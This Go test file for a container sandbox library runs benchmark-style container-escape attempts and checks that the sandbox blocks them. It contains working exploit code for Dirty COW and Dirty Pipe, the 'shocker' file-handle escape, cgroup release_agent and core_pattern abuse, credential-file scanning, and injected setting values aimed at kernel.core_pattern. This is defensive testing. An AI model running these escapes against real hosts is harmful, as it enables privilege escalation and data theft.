//go:build linux

package attack

import (
	"bytes"
	"errors"
	"fmt"
	"net"
	"os"
	"os/exec"
	"path/filepath"
	"runtime"
	"strconv"
	"testing"
	"time"
	"unsafe"

	"github.com/stretchr/testify/require"
	"golang.org/x/sys/unix"

	"github.com/cellkit/sandbox"
	"github.com/cellkit/sandbox/internal/testkit"
	"github.com/cellkit/sandbox/internal/testkit/runs"
)

// The scenarios are those of SandboxEscapeBench (arXiv:2603.02277), in which a flag of the host is
// to be read or changed from a container, except those that need a cluster. In the benchmark each
// container has a misconfiguration. Here the options make it, as far as there is one for it.

const hostFlag = "the host's flag"

// The arguments: the flag's file, a socket of a daemon, the address of a service, the id of a
// process.
func init() {
	addAttacks("scenarios", []attack{
		{"a daemon's socket", func(args []string) error { return dialled("unix", args[1], "/run/daemon.socket") }, true},
		{"a host path that is mounted", func(args []string) error { return overwritten(args[0], "/host/flag") }, true},
		{"a disk", func([]string) error { return openDisk() }, false},
		{"CAP_SYS_MODULE: a module", func([]string) error { return errorUnless(rawCall(unix.SYS_FINIT_MODULE, ^uintptr(0), pathOf(""), 0)) }, false},
		{"CAP_DAC_READ_SEARCH: the root by its handle", func([]string) error { return rootByHandle() }, false},
		{"CAP_SYS_PTRACE: a process of the host", func(args []string) error { return unix.PtraceSeize(int(number(args[3]))) }, true},
		{"CAP_NET_RAW: a packet socket", socket(unix.AF_PACKET, unix.SOCK_RAW, 0), false},
		{"CAP_MKNOD: a device", func([]string) error { return deviceNode() }, true},
		{"CAP_SYS_ADMIN: a mount", func([]string) error { return mountSomewhere() }, true},
		{"the host's processes: a root", func(args []string) error { return contains("/proc/"+args[3]+"/root"+args[0], hostFlag) }, true},
		{"the host's processes: a signal", func(args []string) error { return unix.Kill(int(number(args[3])), 0) }, true},
		{"cgroups: release_agent", func([]string) error { return releaseAgent() }, false},
		{"sysctls: core_pattern", func([]string) error { return writeProc("/proc/sys/kernel/core_pattern") }, false},
		{"eBPF: a map", func([]string) error { return bpfMap() }, true},
		{"Dirty COW: writing to what is read-only", func([]string) error { return dirtyCOW() }, false},
		{"Dirty Pipe: writing to what is read-only", func([]string) error { return dirtyPipe() }, false},
		{"route_localnet: a service on the host's loopback", func(args []string) error { return dialled("tcp", args[2]) }, true},
		{"credentials of the cluster", func([]string) error {
			return inFiles(hostFlag, "/var/run/secrets/kubernetes.io/*/*", "/run/secrets/*", "/proc/*/environ")
		}, true},
		{"the flag", func(args []string) error { return contains(args[0], hostFlag) }, true},
		{"the flag through a descriptor", func(args []string) error {
			return inFiles(hostFlag, "/proc/*/fd/*/flag", "/proc/*/cwd/flag")
		}, false},
	})
}

// Nothing succeeds by default. The same holds for root with all capabilities that a run can have
// and no filter, except that this run's network is its own. An option gives access to what it
// names, and to nothing else.
func TestAttackScenarios(t *testing.T) {
	dir := testkit.OpenDir(t)
	t.Setenv("KUBERNETES_TOKEN", hostFlag)
	testkit.WriteFile(t, dir+"/flag", hostFlag, 0o666)
	l, err := net.Listen("unix", dir+"/daemon.socket")
	require.NoError(t, err)
	defer l.Close()
	require.NoError(t, os.Chmod(dir+"/daemon.socket", 0o777))
	service, err := net.Listen("tcp", "127.0.0.1:0")
	require.NoError(t, err)
	defer service.Close()
	target := exec.Command("sleep", "1000")
	require.NoError(t, target.Start())
	defer func() { _ = target.Process.Kill(); _ = target.Wait() }()
	args := []string{dir + "/flag", dir + "/daemon.socket", service.Addr().String(), strconv.Itoa(target.Process.Pid)}
	s := attacker("scenarios", args...)
	requireHeld(t, "scenarios", s)

	const packets, daemon = "CAP_NET_RAW: a packet socket", "a daemon's socket"
	mighty := s.With(sandbox.WithUser(0, 0), sandbox.WithoutSeccomp(), sandbox.WithCapabilities("CAP_CHOWN", "CAP_DAC_OVERRIDE", "CAP_DAC_READ_SEARCH",
		"CAP_FOWNER", "CAP_KILL", "CAP_SETUID", "CAP_SETGID", "CAP_NET_ADMIN", "CAP_NET_RAW", "CAP_SYS_CHROOT", "CAP_SYS_PTRACE", "CAP_SYS_MODULE", "CAP_SYS_RAWIO",
		"CAP_SYS_BOOT", "CAP_SYS_NICE", "CAP_SYS_RESOURCE", "CAP_SYS_TIME", "CAP_MKNOD", "CAP_BPF", "CAP_PERFMON", "CAP_SYSLOG"))
	t.Run("as root without a filter", func(t *testing.T) {
		var open []string
		if runs.Output(t, mighty.With(sandbox.WithCommand("cat", "/proc/sys/kernel/unprivileged_bpf_disabled"))) == "0" {
			open = append(open, "eBPF: a map") // then the kernel lets everybody
		}
		requireHeld(t, "scenarios", mighty, append(open, packets)...)
	})
	for name, test := range map[string]struct {
		opens   sandbox.Option
		attacks []string
	}{
		"WithCapabilities":   {sandbox.WithCapabilities("CAP_NET_RAW"), []string{packets}},
		"a bind of a socket": {sandbox.WithReadOnlyBind(dir+"/daemon.socket", "/run/daemon.socket"), []string{daemon}},
		"WithNetwork":        {sandbox.WithNetwork(sandbox.NetworkHost), []string{"route_localnet: a service on the host's loopback"}},
		"WithReadOnlyBind":   {sandbox.WithReadOnlyBind(dir, "/host"), nil},
	} {
		t.Run(name, func(t *testing.T) { requireHeld(t, "scenarios", s.With(test.opens), test.attacks...) })
	}
	_, err = s.With(sandbox.WithCapabilities("CAP_SYS_ADMIN")).Run(testkit.Deadline(t))
	require.ErrorContains(t, err, "CAP_SYS_ADMIN is not given to runs")
	b, err := os.ReadFile(dir + "/flag")
	require.NoError(t, err)
	require.Equal(t, hostFlag, string(b), "nobody has changed it")
	t.Run("WithBind", func(t *testing.T) { // last, because it changes the flag
		testkit.Need(t, "idmapped tmpfs or an ordinary user")
		requireHeld(t, "scenarios", s.With(sandbox.WithBind(dir, "/host")), "a host path that is mounted")
	})
	testkit.WriteFile(t, dir+"/flag", hostFlag, 0o666)
	requireControl(t, "scenarios", args...)
}

// The content of an option is not read as another setting: CVE-2022-0811, where the value of one
// set sysctls.
func TestAttackSmuggledSettings(t *testing.T) {
	t.Parallel()
	pattern := func() string {
		b, err := os.ReadFile("/proc/sys/kernel/core_pattern")
		require.NoError(t, err)
		return string(b)
	}
	was := pattern()
	for _, smuggled := range []string{"a+kernel.core_pattern=|/bin/false", "a\nkernel.core_pattern=|/bin/false", "a,uid=0", "a b", "a\tb", "../../x", "a\\012b"} {
		for _, opt := range []sandbox.Option{sandbox.WithHostname(smuggled), sandbox.WithTmpfs("/"+smuggled, sandbox.MiB), sandbox.WithEnv(smuggled + "=x"),
			sandbox.WithFile("/"+smuggled, []byte("x"), 0o600), sandbox.WithDir("/" + smuggled), sandbox.WithRlimit(smuggled, 1, 1)} {
			if out, err := runs.Shell("echo $(id -u) $(ulimit -c)", opt).Output(testkit.Deadline(t)); err == nil {
				require.Equal(t, "1000 0\n", string(out), "%q", smuggled)
			} else {
				require.NotErrorIs(t, err, sandbox.ErrCellLost)
				require.False(t, errors.As(err, new(*sandbox.ExitError)), "%q: %v", smuggled, err)
			}
		}
	}
	require.Equal(t, was, pattern())
}

// dialled connects to one of the addresses.
func dialled(network string, addresses ...string) (err error) {
	for _, a := range addresses {
		c, err2 := net.DialTimeout(network, a, time.Minute)
		if err2 == nil {
			return c.Close()
		}
		err = errors.Join(err, err2)
	}
	return err
}

func overwritten(names ...string) (err error) {
	for _, name := range names {
		f, err2 := os.OpenFile(name, os.O_WRONLY|os.O_APPEND, 0)
		if err2 == nil {
			defer f.Close()
			_, err2 = f.WriteString("TAKEN")
		}
		if err2 == nil {
			return nil
		}
		err = errors.Join(err, err2)
	}
	return err
}

func openDisk() error {
	err := errNothing
	disks, _ := filepath.Glob("/dev/[svx]d[a-z]*")
	more, _ := filepath.Glob("/dev/nvme*")
	for _, d := range append(disks, more...) {
		if err = opened(unix.Open(d, unix.O_RDONLY, 0)); err == nil {
			return nil
		}
	}
	return err
}

// rootByHandle opens inode 2, the root of a file system on a disk, through any mount of it: the
// "shocker".
func rootByHandle() (err error) {
	for _, at := range []string{"/", "/usr", "/etc/ssl/certs", "/helper"} {
		for _, kind := range []int32{1, 0x81} { // FILEID_INO32_GEN and that of xfs: linux/exportfs.h
			handle := unix.NewFileHandle(kind, []byte{2, 0, 0, 0, 0, 0, 0, 0, 0, 0, 0, 0}[:8+4*(int(kind)>>7)])
			err2 := withFile(at, func(fd int) error { return opened(unix.OpenByHandleAt(fd, handle, unix.O_RDONLY)) })
			if err2 == nil {
				return nil
			}
			err = errors.Join(err, err2)
		}
	}
	return err
}

// releaseAgent looks for a file of that name in what is mounted, and mounts hierarchies that have
// it.
func releaseAgent() error {
	files, _ := filepath.Glob("/sys/fs/cgroup/*/release_agent")
	for _, f := range files {
		if fd, err := unix.Open(f, unix.O_WRONLY, 0); err == nil {
			unix.Close(fd)
			return nil
		}
	}
	var errs error
	for _, how := range []string{"rdma", "memory", "none,name=attack"} {
		err := unix.Mount("cgroup", "/tmp", "cgroup", 0, how)
		if err == nil {
			return unix.Unmount("/tmp", 0)
		}
		errs = errors.Join(errs, err)
	}
	return errs
}

func bpfMap() error {
	attr := struct{ kind, key, value, entries uint32 }{2, 4, 4, 1} // BPF_MAP_TYPE_ARRAY
	fd, _, errno := unix.RawSyscall(unix.SYS_BPF, 0, uintptr(unsafe.Pointer(&attr)), unsafe.Sizeof(attr))
	if errno != 0 {
		return errno
	}
	return unix.Close(int(fd))
}

// victimFile returns a file that the run can read but not write to, and its first bytes.
func victimFile() (*os.File, []byte, error) {
	name := "/usr/bin/env"
	f, err := os.Open(name)
	if err != nil {
		return nil, nil, err
	}
	head := make([]byte, 16)
	_, err = f.ReadAt(head, 0)
	return f, head, err
}

func unchanged(f *os.File, head []byte) error {
	now := make([]byte, len(head))
	if _, err := f.ReadAt(now, 0); err != nil || !bytes.Equal(now, head) {
		return err
	}
	return errNothing
}

// dirtyCOW writes to a private mapping through /proc/self/mem, and by ptrace, while the pages are
// dropped: CVE-2016-5195.
func dirtyCOW() error {
	f, head, err := victimFile()
	if err != nil {
		return err
	}
	defer f.Close()
	mapped, err := unix.Mmap(int(f.Fd()), 0, os.Getpagesize(), unix.PROT_READ, unix.MAP_PRIVATE)
	if err != nil {
		return err
	}
	mem, memErr := os.OpenFile("/proc/self/mem", os.O_RDWR, 0)
	end := time.Now().Add(100 * time.Millisecond)
	done := make(chan struct{})
	go func() {
		defer close(done)
		for time.Now().Before(end) {
			_ = unix.Madvise(mapped, unix.MADV_DONTNEED)
			runtime.Gosched()
		}
	}()
	for time.Now().Before(end) && memErr == nil {
		_, _ = mem.WriteAt([]byte("taken"), int64(uintptr(unsafe.Pointer(&mapped[0]))))
	}
	<-done
	if memErr == nil {
		mem.Close()
	}
	if err := unchanged(f, head); !errors.Is(err, errNothing) {
		return err
	}
	return fmt.Errorf("%w (%v)", errNothing, memErr)
}

// dirtyPipe fills a pipe, empties it, makes it refer to a page of the file, and writes again:
// CVE-2022-0847.
func dirtyPipe() error {
	f, head, err := victimFile()
	if err != nil {
		return err
	}
	defer f.Close()
	var p [2]int
	if err := unix.Pipe2(p[:], unix.O_NONBLOCK); err != nil {
		return err
	}
	page := make([]byte, os.Getpagesize())
	full := 0
	for {
		n, err := unix.Write(p[1], page)
		if err != nil {
			break
		}
		full += n
	}
	for full > 0 {
		n, err := unix.Read(p[0], page)
		if err != nil {
			return err
		}
		full -= n
	}
	var from int64
	if _, err := unix.Splice(int(f.Fd()), &from, p[1], nil, 1, 0); err != nil {
		return err
	}
	if _, err := unix.Write(p[1], []byte("taken")); err != nil {
		return err
	}
	return unchanged(f, head)
}
